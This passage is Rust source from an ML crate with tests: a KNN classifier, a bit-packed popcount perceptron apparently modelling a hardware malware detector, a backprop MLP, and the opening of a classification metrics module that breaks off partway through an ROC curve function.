/// let y = vec![-1, -1, 1, 1];
/// let mut m = Knn::new(3);
/// m.fit(&x, &y);
/// assert_eq!(m.predict(&[0.95]), 1);
/// ```
#[derive(Debug, Clone)]
pub struct Knn {
    /// Number of neighbors consulted.
    pub k: usize,
    x: Vec<Vec<f64>>,
    y: Vec<i8>,
}

impl Knn {
    /// Creates a KNN classifier with `k` neighbors.
    ///
    /// # Panics
    ///
    /// Panics if `k == 0`; use [`Knn::try_new`] for a typed error.
    pub fn new(k: usize) -> Self {
        Self::try_new(k).unwrap_or_else(|e| panic!("{e}"))
    }

    /// Fallible constructor.
    ///
    /// # Errors
    ///
    /// Returns [`MlError::InvalidParam`] when `k == 0`.
    pub fn try_new(k: usize) -> Result<Self, MlError> {
        if k == 0 {
            return Err(MlError::InvalidParam {
                param: "k",
                reason: "k must be positive",
            });
        }
        Ok(Self {
            k,
            x: Vec::new(),
            y: Vec::new(),
        })
    }

    /// Number of stored training rows (the hardware-cost driver).
    pub fn stored_rows(&self) -> usize {
        self.x.len()
    }
}

impl Classifier for Knn {
    fn fit(&mut self, x: &[Vec<f64>], y: &[i8]) {
        validate_training_set(x, y, None).unwrap_or_else(|e| panic!("{e}"));
        self.x = x.to_vec();
        self.y = y.to_vec();
    }

    fn score(&self, row: &[f64]) -> f64 {
        assert!(!self.x.is_empty(), "fit before predict");
        let mut dists: Vec<(f64, i8)> = self
            .x
            .iter()
            .zip(&self.y)
            .map(|(r, &l)| {
                let d: f64 = r.iter().zip(row).map(|(a, b)| (a - b) * (a - b)).sum();
                (d, l)
            })
            .collect();
        let k = self.k.min(dists.len());
        dists.select_nth_unstable_by(k - 1, |a, b| {
            a.0.partial_cmp(&b.0).expect("no NaN distances")
        });
        let votes: i32 = dists[..k].iter().map(|&(_, l)| l as i32).sum();
        votes as f64
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn k1_memorizes_training_points() {
        let x = vec![vec![0.0, 0.0], vec![5.0, 5.0]];
        let y = vec![-1, 1];
        let mut m = Knn::new(1);
        m.fit(&x, &y);
        assert_eq!(m.predict(&[0.1, 0.1]), -1);
        assert_eq!(m.predict(&[4.9, 5.1]), 1);
    }

    #[test]
    fn k3_outvotes_a_single_outlier() {
        let x = vec![vec![0.0], vec![0.1], vec![0.2], vec![0.15]];
        let y = vec![-1, -1, -1, 1]; // one mislabeled point
        let mut m = Knn::new(3);
        m.fit(&x, &y);
        assert_eq!(m.predict(&[0.12]), -1);
    }

    #[test]
    #[should_panic(expected = "k must be positive")]
    fn zero_k_panics() {
        let _ = Knn::new(0);
    }
}
