//! Bit-packed binary feature rows and the popcount perceptron.
//!
//! The paper's detector is deliberately hardware-shaped: 0/1 k-sparse
//! features scored by a single-layer perceptron, exactly like the
//! perceptron branch predictors it descends from. This module is that
//! shape taken literally in software: a binarized row is a [`BitRow`]
//! (one bit per feature, packed into `u64` words, plus a validity mask
//! for lanes that were sanitized away), a batch of rows is a contiguous
//! [`PackedRows`] block, and a trained [`Perceptron`] freezes into a
//! [`PackedPerceptron`] whose inference walks set bits instead of
//! multiplying a dense `f64` vector.
//!
//! Two scoring paths are provided:
//!
//! * **Exact** ([`PackedPerceptron::score_bits`]) — iterates the set
//!   (and valid) bits of the row in ascending lane order and sums the
//!   corresponding `f64` weights. Because every input is exactly `0.0`
//!   or `1.0`, skipping the zero terms cannot perturb the IEEE-754 sum:
//!   the result is **bit-identical** to [`crate::Classifier::score`] on the
//!   equivalent dense row, so verdicts, confidences and thresholds all
//!   carry over unchanged — the packed path is a faster spelling of the
//!   same math, never an approximation.
//! * **Quantized popcount** ([`PackedPerceptron::score_quantized`]) —
//!   the hardware engine itself: weights quantized to signed 8-bit (the
//!   representation vendor weight patches ship, §IV-G1) and decomposed
//!   into sign/magnitude bit-planes, so a score is seven AND+popcount
//!   passes per sign. Integer arithmetic is order-free, so this path is
//!   exactly the sequential adder the silicon would run.
//!
//! Invalid lanes (see [`BitRow::set_valid`]) contribute nothing to
//! either score even if their bit is set — a sanitized sensor reading
//! is masked, never scored.

use crate::error::MlError;
use crate::perceptron::Perceptron;

/// Bits per storage word.
const WORD_BITS: usize = 64;

/// Words needed to hold `width` lanes.
#[inline]
fn words_for(width: usize) -> usize {
    width.div_ceil(WORD_BITS)
}

/// Mask of the in-range bits of the last word of a `width`-lane row
/// (all-ones when the width is a multiple of 64).
#[inline]
fn tail_mask(width: usize) -> u64 {
    let rem = width % WORD_BITS;
    if rem == 0 {
        u64::MAX
    } else {
        (1u64 << rem) - 1
    }
}

/// One binarized feature row packed 64 lanes per `u64` word, with a
/// per-lane validity mask.
///
/// A lane is *set* when the binarized feature is 1, and *valid* unless
/// the value was masked during encoding (a sanitized non-finite sensor
/// reading, or a reference maximum too degenerate to divide by). Tail
/// bits beyond `width` are always zero in both planes, so whole-word
/// popcounts never see garbage.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct BitRow {
    words: Vec<u64>,
    valid: Vec<u64>,
    width: usize,
}

impl BitRow {
    /// An all-zero, all-valid row over `width` lanes.
    pub fn zeros(width: usize) -> Self {
        let n = words_for(width);
        let mut valid = vec![u64::MAX; n];
        if let Some(last) = valid.last_mut() {
            *last = tail_mask(width);
        }
        Self {
            words: vec![0; n],
            valid,
            width,
        }
    }

    /// Packs a dense binarized row: a lane is set when the value exceeds
    /// 0.5 (the k-sparse convention) and invalid when it is non-finite.
    pub fn from_f64(row: &[f64]) -> Self {
        let mut out = Self::zeros(row.len());
        for (i, &v) in row.iter().enumerate() {
            if !v.is_finite() {
                out.set_valid(i, false);
            } else if v > 0.5 {
                out.set(i, true);
            }
        }
        out
    }

    /// Number of lanes.
    pub fn width(&self) -> usize {
        self.width
    }

    /// The packed feature bits, 64 lanes per word, tail bits zero.
    pub fn words(&self) -> &[u64] {
        &self.words
    }

    /// The packed validity mask (1 = lane valid), tail bits zero.
    pub fn valid_words(&self) -> &[u64] {
        &self.valid
    }

    /// The feature bit of lane `i`.
    ///
    /// # Panics
    ///
    /// Panics if `i >= width`.
    pub fn get(&self, i: usize) -> bool {
        assert!(i < self.width, "lane {i} out of range ({})", self.width);
        self.words[i / WORD_BITS] >> (i % WORD_BITS) & 1 == 1
    }

    /// Sets or clears the feature bit of lane `i`.
    ///
    /// # Panics
    ///
    /// Panics if `i >= width`.
    pub fn set(&mut self, i: usize, bit: bool) {
        assert!(i < self.width, "lane {i} out of range ({})", self.width);
        let mask = 1u64 << (i % WORD_BITS);
        if bit {
            self.words[i / WORD_BITS] |= mask;
        } else {
            self.words[i / WORD_BITS] &= !mask;
        }
    }

    /// Whether lane `i` is valid (not masked during encoding).
    ///
    /// # Panics
    ///
    /// Panics if `i >= width`.
    pub fn is_valid(&self, i: usize) -> bool {
        assert!(i < self.width, "lane {i} out of range ({})", self.width);
        self.valid[i / WORD_BITS] >> (i % WORD_BITS) & 1 == 1
    }

    /// Marks lane `i` valid or invalid. Invalid lanes contribute nothing
    /// to any score, even if their bit is set.
    ///
    /// # Panics
    ///
    /// Panics if `i >= width`.
    pub fn set_valid(&mut self, i: usize, valid: bool) {
        assert!(i < self.width, "lane {i} out of range ({})", self.width);
        let mask = 1u64 << (i % WORD_BITS);
        if valid {
            self.valid[i / WORD_BITS] |= mask;
        } else {
            self.valid[i / WORD_BITS] &= !mask;
        }
    }

    /// Number of set lanes.
    pub fn count_ones(&self) -> usize {
        self.words.iter().map(|w| w.count_ones() as usize).sum()
    }

    /// Number of lanes masked invalid — the row's degradation footprint.
    pub fn invalid_lanes(&self) -> usize {
        self.width
            - self
                .valid
                .iter()
                .map(|w| w.count_ones() as usize)
                .sum::<usize>()
    }

    /// Resets to all-zero bits and all-valid lanes, keeping the width —
    /// the allocation-free reuse path for streaming encoders.
    pub fn clear(&mut self) {
        self.words.iter_mut().for_each(|w| *w = 0);
        self.valid.iter_mut().for_each(|w| *w = u64::MAX);
        if let Some(last) = self.valid.last_mut() {
            *last = tail_mask(self.width);
        }
    }

    /// Unpacks to a dense 0/1 `f64` row (invalid lanes unpack to 0.0 —
    /// exactly what the scalar encoder would have produced for them).
    pub fn to_f64(&self) -> Vec<f64> {
        (0..self.width)
            .map(|i| {
                if self.get(i) && self.is_valid(i) {
                    1.0
                } else {
                    0.0
                }
            })
            .collect()
    }
}

/// A batch of equal-width [`BitRow`]s stored contiguously, row-major —
/// the cache-friendly layout batched inference walks linearly.
#[derive(Debug, Clone, Default)]
pub struct PackedRows {
    words: Vec<u64>,
    valid: Vec<u64>,
    width: usize,
    words_per_row: usize,
    len: usize,
}

impl PackedRows {
    /// An empty batch over `width`-lane rows.
    pub fn new(width: usize) -> Self {
        Self {
            words: Vec::new(),
            valid: Vec::new(),
            width,
            words_per_row: words_for(width),
            len: 0,
        }
    }

    /// Appends a row.
    ///
    /// # Errors
    ///
    /// Returns [`MlError::FeatureWidthMismatch`] when the row's width
    /// differs from the batch's.
    pub fn push(&mut self, row: &BitRow) -> Result<(), MlError> {
        if row.width() != self.width {
            return Err(MlError::FeatureWidthMismatch {
                expected: self.width,
                got: row.width(),
            });
        }
        self.words.extend_from_slice(row.words());
        self.valid.extend_from_slice(row.valid_words());
        self.len += 1;
        Ok(())
    }

    /// Number of rows.
    pub fn len(&self) -> usize {
        self.len
    }

    /// Whether the batch holds no rows.
    pub fn is_empty(&self) -> bool {
        self.len == 0
    }

    /// Lanes per row.
    pub fn width(&self) -> usize {
        self.width
    }

    /// Storage words per row.
    pub fn words_per_row(&self) -> usize {
        self.words_per_row
    }

    /// The packed feature words of row `r`.
    ///
    /// # Panics
    ///
    /// Panics if `r >= len`.
    pub fn row_words(&self, r: usize) -> &[u64] {
        assert!(r < self.len, "row {r} out of range ({})", self.len);
        &self.words[r * self.words_per_row..(r + 1) * self.words_per_row]
    }

    /// The packed validity words of row `r`.
    ///
    /// # Panics
    ///
    /// Panics if `r >= len`.
    pub fn row_valid(&self, r: usize) -> &[u64] {
        assert!(r < self.len, "row {r} out of range ({})", self.len);
        &self.valid[r * self.words_per_row..(r + 1) * self.words_per_row]
    }

    /// Reconstructs row `r` as a standalone [`BitRow`].
    ///
    /// # Panics
    ///
    /// Panics if `r >= len`.
    pub fn row(&self, r: usize) -> BitRow {
        BitRow {
            words: self.row_words(r).to_vec(),
            valid: self.row_valid(r).to_vec(),
            width: self.width,
        }
    }

    /// Drops every row, keeping the allocation and width.
    pub fn clear(&mut self) {
        self.words.clear();
        self.valid.clear();
        self.len = 0;
    }
}

/// A trained [`Perceptron`] frozen for bit-packed inference.
///
/// Holds the exact `f64` weights (for bit-identical scoring) alongside
/// their signed-8-bit quantization decomposed into sign/magnitude
/// bit-planes (for the pure popcount engine). Construction is cheap;
/// freeze once after training and share across streams.
#[derive(Debug, Clone)]
pub struct PackedPerceptron {
    weights: Vec<f64>,
    bias: f64,
    width: usize,
    words_per_row: usize,
    /// Quantized weights (`float ≈ int × scale`), kept for inspection
    /// and cross-checks against sequential-adder implementations.
    qweights: Vec<i8>,
    qbias: i32,
    scale: f64,
    /// `planes[b][w]`: lanes whose quantized magnitude has bit `b` set,
    /// split by weight sign. Seven planes cover |q| ≤ 127.
    pos_planes: Vec<Vec<u64>>,
    neg_planes: Vec<Vec<u64>>,
}

/// Magnitude bit-planes of an 8-bit weight (|q| ≤ 127 needs seven).
const QUANT_PLANES: usize = 7;

impl PackedPerceptron {
    /// Freezes a trained perceptron's weights for packed inference.
    pub fn from_perceptron(p: &Perceptron) -> Self {
        Self::from_weights(p.weights(), p.bias())
    }

    /// Freezes an explicit weight vector and bias.
    pub fn from_weights(weights: &[f64], bias: f64) -> Self {
        let width = weights.len();
        let words_per_row = words_for(width);
        // Identical quantization to the detector's vendor-patch scheme:
        // scale from the largest magnitude (weights and bias alike).
        let max = weights
            .iter()
            .chain(std::iter::once(&bias))
            .fold(0.0f64, |m, w| m.max(w.abs()));
        let scale = if max == 0.0 { 1.0 } else { max / 127.0 };
        let q = |w: f64| -> i8 { (w / scale).round().clamp(-127.0, 127.0) as i8 };
        let qweights: Vec<i8> = weights.iter().map(|&w| q(w)).collect();
        let mut pos_planes = vec![vec![0u64; words_per_row]; QUANT_PLANES];
        let mut neg_planes = vec![vec![0u64; words_per_row]; QUANT_PLANES];
        for (i, &qw) in qweights.iter().enumerate() {
            let mag = qw.unsigned_abs();
            let planes = if qw >= 0 {
                &mut pos_planes
            } else {
                &mut neg_planes
            };
            for (b, plane) in planes.iter_mut().enumerate() {
                if mag >> b & 1 == 1 {
                    plane[i / WORD_BITS] |= 1u64 << (i % WORD_BITS);
                }
            }
        }
        Self {
            weights: weights.to_vec(),
            bias,
            width,
            words_per_row,
            qweights,
            qbias: q(bias) as i32,
            scale,
            pos_planes,
            neg_planes,
        }
    }

    /// Number of input lanes.
    pub fn width(&self) -> usize {
        self.width
    }

    /// The frozen `f64` weights, in lane order.
    pub fn weights(&self) -> &[f64] {
        &self.weights
    }

    /// The frozen bias.
    pub fn bias(&self) -> f64 {
        self.bias
    }

    /// The 8-bit quantization `(weights, bias, scale)` backing the
    /// popcount planes, with `float ≈ int × scale`.
    pub fn quantized(&self) -> (&[i8], i8, f64) {
        (&self.qweights, self.qbias as i8, self.scale)
    }

    /// Exact raw score over word slices (bits, validity). The workhorse
    /// behind [`PackedPerceptron::score_bits`] and batched scoring.
    #[inline]
    fn score_words(&self, words: &[u64], valid: &[u64]) -> f64 {
        debug_assert_eq!(words.len(), self.words_per_row);
        // Summing only the set lanes in ascending order reproduces the
        // dense dot product bit-for-bit: the skipped terms are exact
        // zeros, which cannot move an IEEE-754 accumulator that starts
        // at +0.0.
        let mut acc = 0.0f64;
        for (w, (&bits, &ok)) in words.iter().zip(valid).enumerate() {
            let mut m = bits & ok;
            let base = w * WORD_BITS;
            while m != 0 {
                let b = m.trailing_zeros() as usize;
                acc += self.weights[base + b];
                m &= m - 1;
            }
        }
        acc + self.bias
    }

    /// Exact raw decision score for one packed row — bit-identical to
    /// [`crate::Classifier::score`] on the equivalent dense 0/1 row.
    ///
    /// # Panics
    ///
    /// Panics if the row's width differs from the model's.
    pub fn score_bits(&self, row: &BitRow) -> f64 {
        assert_eq!(row.width(), self.width, "packed row width mismatch");
        self.score_words(row.words(), row.valid_words())
    }

    /// Predicted ±1 label for one packed row (≥ 0 ⇒ +1), identical to
    /// the scalar `predict`.
    pub fn predict_bits(&self, row: &BitRow) -> i8 {
        if self.score_bits(row) >= 0.0 {
            1
        } else {
            -1
        }
    }

    /// Exact raw scores for a whole batch, written into `out` (cleared
    /// first). The batch walk is a single linear pass over the packed
    /// block — the cache-friendly shape per-row scoring cannot reach.
    ///
    /// The sweep is unrolled four rows wide: each iteration of the word
    /// loop processes one `u64` word from four rows at once, draining each
    /// into its own independent accumulator. The accumulators must be
    /// per-*row*, never per-word: IEEE-754 addition is not associative, so
    /// splitting one row's weights across partial sums would change its
    /// rounding — per-row chains keep every score walking lanes in
    /// ascending order, bit-identical to [`PackedPerceptron::score_bits`],
    /// while the four chains give the CPU independent FP dependency chains
    /// to overlap.
    ///
    /// # Panics
    ///
    /// Panics if the batch's width differs from the model's.
    pub fn score_rows(&self, rows: &PackedRows, out: &mut Vec<f64>) {
        assert_eq!(rows.width(), self.width, "packed batch width mismatch");
        out.clear();
        out.reserve(rows.len());
        let n = self.words_per_row;
        let mut r = 0;
        while r + 4 <= rows.len() {
            let b = [r * n, (r + 1) * n, (r + 2) * n, (r + 3) * n];
            let mut acc = [0.0f64; 4];
            for w in 0..n {
                let lane0 = w * WORD_BITS;
                for (k, acc_k) in acc.iter_mut().enumerate() {
                    let mut m = rows.words[b[k] + w] & rows.valid[b[k] + w];
                    while m != 0 {
                        *acc_k += self.weights[lane0 + m.trailing_zeros() as usize];
                        m &= m - 1;
                    }
                }
            }
            out.extend(acc.iter().map(|a| a + self.bias));
            r += 4;
        }
        for r in r..rows.len() {
            let base = r * n;
            out.push(self.score_words(&rows.words[base..base + n], &rows.valid[base..base + n]));
        }
    }

    /// Predicted ±1 labels for a whole batch.
    pub fn predict_rows(&self, rows: &PackedRows) -> Vec<i8> {
        let mut scores = Vec::new();
        self.score_rows(rows, &mut scores);
        scores
            .into_iter()
            .map(|s| if s >= 0.0 { 1 } else { -1 })
            .collect()
    }

    /// The pure popcount engine: integer score over the sign/magnitude
    /// bit-planes of the 8-bit quantized weights. Exactly equal to the
    /// hardware's sequential adder (add `q[i]` when lane `i` is set,
    /// plus the quantized bias) — integer addition is order-free.
    ///
    /// # Panics
    ///
    /// Panics if the row's width differs from the model's.
    pub fn score_quantized(&self, row: &BitRow) -> i32 {
        assert_eq!(row.width(), self.width, "packed row width mismatch");
        let mut acc = self.qbias;
        for b in 0..QUANT_PLANES {
            let mut pos = 0u32;
            let mut neg = 0u32;
            for ((&bits, &ok), (p, n)) in row
                .words()
                .iter()
                .zip(row.valid_words())
                .zip(self.pos_planes[b].iter().zip(&self.neg_planes[b]))
            {
                let live = bits & ok;
                pos += (live & p).count_ones();
                neg += (live & n).count_ones();
            }
            acc += (1i32 << b) * (pos as i32 - neg as i32);
        }
        acc
    }

    /// Quantized verdict (≥ 0 ⇒ suspicious), the silicon's output wire.
    pub fn predict_quantized(&self, row: &BitRow) -> bool {
        self.score_quantized(row) >= 0
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::Classifier;

    #[test]
    fn bitrow_roundtrips_and_keeps_tails_clean() {
        for width in [1usize, 63, 64, 65, 106, 128, 130] {
            let mut r = BitRow::zeros(width);
            r.set(0, true);
            r.set(width - 1, true);
            assert!(r.get(0) && r.get(width - 1));
            assert_eq!(r.count_ones(), if width == 1 { 1 } else { 2 });
            // Tail bits beyond `width` stay zero in both planes.
            if width % WORD_BITS != 0 {
                let tail = *r.words().last().unwrap() & !tail_mask(width);
                assert_eq!(tail, 0, "width {width}: dirty tail bits");
                let vtail = *r.valid_words().last().unwrap() & !tail_mask(width);
                assert_eq!(vtail, 0, "width {width}: dirty validity tail");
            }
            r.set(0, false);
            assert!(!r.get(0));
            assert_eq!(r.invalid_lanes(), 0);
            r.set_valid(width - 1, false);
            assert_eq!(r.invalid_lanes(), 1);
            r.clear();
            assert_eq!(r.count_ones(), 0);
            assert_eq!(r.invalid_lanes(), 0);
        }
    }

    #[test]
    fn from_f64_packs_the_ksparse_convention() {
        let r = BitRow::from_f64(&[0.0, 1.0, 0.4, 0.6, f64::NAN, f64::INFINITY]);
        assert!(!r.get(0) && r.get(1) && !r.get(2) && r.get(3));
        assert!(!r.get(4) && !r.get(5), "non-finite lanes pack as 0");
        assert!(!r.is_valid(4) && !r.is_valid(5));
        assert_eq!(r.invalid_lanes(), 2);
        assert_eq!(r.to_f64(), vec![0.0, 1.0, 0.0, 1.0, 0.0, 0.0]);
    }

    #[test]
    fn packed_rows_push_rejects_width_mismatch() {
        let mut batch = PackedRows::new(10);
        assert!(batch.push(&BitRow::zeros(10)).is_ok());
        assert_eq!(
            batch.push(&BitRow::zeros(11)),
            Err(MlError::FeatureWidthMismatch {
                expected: 10,
                got: 11
            })
        );
        assert_eq!(batch.len(), 1);
        let row = batch.row(0);
        assert_eq!(row, BitRow::zeros(10));
    }

    #[test]
    fn packed_score_is_bit_identical_to_scalar_score() {
        // Width 70 exercises the non-multiple-of-64 tail.
        let width = 70;
        let weights: Vec<f64> = (0..width)
            .map(|i| ((i as f64) * 0.37 - 11.0) / 3.0)
            .collect();
        let mut p = Perceptron::new(width);
        p.set_weights(weights, 0.125).unwrap();
        let packed = PackedPerceptron::from_perceptron(&p);
        for pattern in 0u64..64 {
            let dense: Vec<f64> = (0..width)
                .map(|i| f64::from(pattern >> (i % 17) & 1 == 1))
                .collect();
            let row = BitRow::from_f64(&dense);
            assert_eq!(
                packed.score_bits(&row).to_bits(),
                p.score(&dense).to_bits(),
                "pattern {pattern}: packed score diverged"
            );
            assert_eq!(packed.predict_bits(&row), p.predict(&dense));
        }
    }

    #[test]
    fn invalid_lanes_contribute_nothing_even_when_set() {
        let mut p = Perceptron::new(3);
        p.set_weights(vec![1.0, 10.0, 100.0], 0.0).unwrap();
        let packed = PackedPerceptron::from_perceptron(&p);
        let mut row = BitRow::zeros(3);
        row.set(0, true);
        row.set(1, true);
        row.set_valid(1, false);
        assert_eq!(packed.score_bits(&row), 1.0);
        assert_eq!(packed.score_quantized(&row), packed.quantized().0[0] as i32);
    }

    #[test]
    fn quantized_popcount_matches_the_sequential_adder() {
        let width = 106;
        let weights: Vec<f64> = (0..width).map(|i| (i as f64 * 7.3).sin() * 4.0).collect();
        let bias = -0.75;
        let packed = PackedPerceptron::from_weights(&weights, bias);
        let (q, qb, scale) = packed.quantized();
        assert!(scale > 0.0);
        for pattern in 0u64..128 {
            let mut row = BitRow::zeros(width);
            let mut adder: i32 = qb as i32;
            for (i, &qw) in q.iter().enumerate() {
                if pattern >> (i % 19) & 1 == 1 {
                    row.set(i, true);
                    adder += qw as i32;
                }
            }
            assert_eq!(
                packed.score_quantized(&row),
                adder,
                "pattern {pattern}: popcount planes diverged from the adder"
            );
        }
    }

    #[test]
    fn batched_scores_match_per_row_scores() {
        let width = 65;
        let weights: Vec<f64> = (0..width).map(|i| (i as f64) - 31.5).collect();
        let packed = PackedPerceptron::from_weights(&weights, 2.0);
        let mut batch = PackedRows::new(width);
        let mut singles = Vec::new();
        for k in 0..10usize {
            let mut row = BitRow::zeros(width);
            for i in (k % 7..width).step_by(k + 2) {
                row.set(i, true);
            }
            singles.push(packed.score_bits(&row));
            batch.push(&row).unwrap();
        }
        let mut batched = Vec::new();
        packed.score_rows(&batch, &mut batched);
        let a: Vec<u64> = singles.iter().map(|s| s.to_bits()).collect();
        let b: Vec<u64> = batched.iter().map(|s| s.to_bits()).collect();
        assert_eq!(a, b);
        assert_eq!(
            packed.predict_rows(&batch),
            singles
                .iter()
                .map(|&s| if s >= 0.0 { 1i8 } else { -1 })
                .collect::<Vec<_>>()
        );
    }

    /// The 4-wide unrolled sweep must stay bit-identical to per-row
    /// scoring at every (batch length % 4) remainder, at multi-word
    /// widths, and with invalid lanes in the mix.
    #[test]
    fn unrolled_batch_sweep_is_bit_identical_at_every_remainder() {
        for width in [1usize, 63, 64, 106, 130, 200, 513] {
            let weights: Vec<f64> = (0..width)
                .map(|i| ((i as f64) * 1.37).sin() * 5.0 - 0.3)
                .collect();
            let packed = PackedPerceptron::from_weights(&weights, -0.875);
            for len in 0..=9usize {
                let mut batch = PackedRows::new(width);
                let mut singles = Vec::new();
                let mut state = ((width as u64) << 16) | (len as u64 + 1);
                for _ in 0..len {
                    let mut row = BitRow::zeros(width);
                    for i in 0..width {
                        state ^= state << 13;
                        state ^= state >> 7;
                        state ^= state << 17;
                        if state & 3 == 0 {
                            row.set(i, true);
                        }
                        if state & 15 == 1 {
                            row.set_valid(i, false);
                        }
                    }
                    singles.push(packed.score_bits(&row).to_bits());
                    batch.push(&row).unwrap();
                }
                let mut batched = Vec::new();
                packed.score_rows(&batch, &mut batched);
                let b: Vec<u64> = batched.iter().map(|s| s.to_bits()).collect();
                assert_eq!(singles, b, "width {width}, batch len {len}");
            }
        }
    }
}
