//! A one-hidden-layer neural network trained by backpropagation.

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

use crate::error::validate_training_set;
use crate::Classifier;

/// A multi-layer perceptron with one tanh hidden layer and a linear output,
/// trained with SGD backpropagation (the paper's "NN" baseline — accurate,
/// but with "high hardware overhead and classification latency").
///
/// # Example
///
/// ```
/// use mlkit::{Classifier, Mlp};
/// // XOR — not linearly separable, needs the hidden layer.
/// let x = vec![vec![0.,0.], vec![0.,1.], vec![1.,0.], vec![1.,1.]];
/// let y = vec![-1, 1, 1, -1];
/// let mut m = Mlp::new(2, 8, 42);
/// m.epochs = 3000;
/// m.fit(&x, &y);
/// assert_eq!(m.predict(&[0.0, 1.0]), 1);
/// ```
#[derive(Debug, Clone)]
pub struct Mlp {
    w1: Vec<Vec<f64>>, // hidden × input
    b1: Vec<f64>,
    w2: Vec<f64>, // output ← hidden
    b2: f64,
    /// SGD step size.
    pub learning_rate: f64,
    /// Training epochs.
    pub epochs: usize,
}

impl Mlp {
    /// Creates an MLP with `hidden` units over `n_features` inputs,
    /// initialized from `seed`.
    pub fn new(n_features: usize, hidden: usize, seed: u64) -> Self {
        let mut rng = StdRng::seed_from_u64(seed);
        let scale = 1.0 / (n_features as f64).sqrt();
        Self {
            w1: (0..hidden)
                .map(|_| {
                    (0..n_features)
                        .map(|_| rng.gen_range(-scale..scale))
                        .collect()
                })
                .collect(),
            b1: vec![0.0; hidden],
            w2: (0..hidden).map(|_| rng.gen_range(-0.5..0.5)).collect(),
            b2: 0.0,
            learning_rate: 0.05,
            epochs: 400,
        }
    }

    fn hidden_out(&self, row: &[f64]) -> Vec<f64> {
        self.w1
            .iter()
            .zip(&self.b1)
            .map(|(ws, b)| {
                let z: f64 = ws.iter().zip(row).map(|(w, v)| w * v).sum::<f64>() + b;
                z.tanh()
            })
            .collect()
    }

    /// Number of learned parameters (the hardware-cost driver).
    pub fn parameter_count(&self) -> usize {
        self.w1.iter().map(Vec::len).sum::<usize>() + self.b1.len() + self.w2.len() + 1
    }
}

impl Classifier for Mlp {
    fn fit(&mut self, x: &[Vec<f64>], y: &[i8]) {
        validate_training_set(x, y, None).unwrap_or_else(|e| panic!("{e}"));
        for _ in 0..self.epochs {
            for (row, &label) in x.iter().zip(y) {
                let h = self.hidden_out(row);
                let out: f64 = self.w2.iter().zip(&h).map(|(w, v)| w * v).sum::<f64>() + self.b2;
                let target = label as f64;
                let err = target - out.tanh();
                let dout = err * (1.0 - out.tanh() * out.tanh());
                // Output layer.
                for (w, &hv) in self.w2.iter_mut().zip(&h) {
                    *w += self.learning_rate * dout * hv;
                }
                self.b2 += self.learning_rate * dout;
                // Hidden layer.
                for (j, hv) in h.iter().enumerate() {
                    let dh = dout * self.w2[j] * (1.0 - hv * hv);
                    for (w, &v) in self.w1[j].iter_mut().zip(row) {
                        *w += self.learning_rate * dh * v;
                    }
                    self.b1[j] += self.learning_rate * dh;
                }
            }
        }
    }

    fn score(&self, row: &[f64]) -> f64 {
        let h = self.hidden_out(row);
        self.w2.iter().zip(&h).map(|(w, v)| w * v).sum::<f64>() + self.b2
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn learns_a_linear_boundary_quickly() {
        let x: Vec<Vec<f64>> = (0..40).map(|i| vec![i as f64 / 40.0]).collect();
        let y: Vec<i8> = (0..40).map(|i| if i >= 20 { 1 } else { -1 }).collect();
        let mut m = Mlp::new(1, 4, 7);
        m.fit(&x, &y);
        assert_eq!(m.predict(&[0.05]), -1);
        assert_eq!(m.predict(&[0.95]), 1);
    }

    #[test]
    fn solves_xor_unlike_a_single_perceptron() {
        let x = vec![
            vec![0.0, 0.0],
            vec![0.0, 1.0],
            vec![1.0, 0.0],
            vec![1.0, 1.0],
        ];
        let y = vec![-1, 1, 1, -1];
        let mut m = Mlp::new(2, 8, 42);
        m.epochs = 3000;
        m.fit(&x, &y);
        for (r, &l) in x.iter().zip(&y) {
            assert_eq!(m.predict(r), l, "failed on {r:?}");
        }
    }

    #[test]
    fn parameter_count_scales_with_width() {
        let m = Mlp::new(10, 16, 0);
        assert_eq!(m.parameter_count(), 10 * 16 + 16 + 16 + 1);
    }
}
