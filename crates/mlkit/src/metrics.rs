//! Classification metrics: confusion counts, accuracy/precision/recall/F1,
//! ROC curves and AUC.

/// Confusion-matrix counts for a binary problem (+1 positive/malicious).
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct Confusion {
    /// True positives.
    pub tp: usize,
    /// False positives.
    pub fp: usize,
    /// True negatives.
    pub tn: usize,
    /// False negatives.
    pub fn_: usize,
}

impl Confusion {
    /// Fraction of correct predictions.
    pub fn accuracy(&self) -> f64 {
        let total = self.tp + self.fp + self.tn + self.fn_;
        if total == 0 {
            return 0.0;
        }
        (self.tp + self.tn) as f64 / total as f64
    }

    /// TP / (TP + FP).
    pub fn precision(&self) -> f64 {
        if self.tp + self.fp == 0 {
            return 0.0;
        }
        self.tp as f64 / (self.tp + self.fp) as f64
    }

    /// TP / (TP + FN) — the true-positive (detection) rate.
    pub fn recall(&self) -> f64 {
        if self.tp + self.fn_ == 0 {
            return 0.0;
        }
        self.tp as f64 / (self.tp + self.fn_) as f64
    }

    /// FP / (FP + TN) — the false-positive rate.
    pub fn false_positive_rate(&self) -> f64 {
        if self.fp + self.tn == 0 {
            return 0.0;
        }
        self.fp as f64 / (self.fp + self.tn) as f64
    }

    /// Harmonic mean of precision and recall.
    pub fn f1(&self) -> f64 {
        let (p, r) = (self.precision(), self.recall());
        if p + r == 0.0 {
            return 0.0;
        }
        2.0 * p * r / (p + r)
    }
}

/// Tallies a confusion matrix from predictions and ground truth (+1/−1).
///
/// # Panics
///
/// Panics if the slices differ in length.
pub fn confusion(predicted: &[i8], truth: &[i8]) -> Confusion {
    assert_eq!(predicted.len(), truth.len(), "length mismatch");
    let mut c = Confusion::default();
    for (&p, &t) in predicted.iter().zip(truth) {
        match (p > 0, t > 0) {
            (true, true) => c.tp += 1,
            (true, false) => c.fp += 1,
            (false, false) => c.tn += 1,
            (false, true) => c.fn_ += 1,
        }
    }
    c
}

/// One operating point of a ROC curve.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct RocPoint {
    /// False-positive rate at this threshold.
    pub fpr: f64,
    /// True-positive rate at this threshold.
    pub tpr: f64,
    /// Decision threshold producing this point.
    pub threshold: f64,
}

/// Computes the ROC curve by sweeping the decision threshold over the
/// scores. Returns points ordered from (0,0) to (1,1).
///
/// # Panics
///
/// Panics if the slices differ in length or are empty.
pub fn roc_curve(scores: &[f64], truth: &[i8]) -> Vec<RocPoint> {
    assert_eq!(scores.len(), truth.len(), "length mismatch");
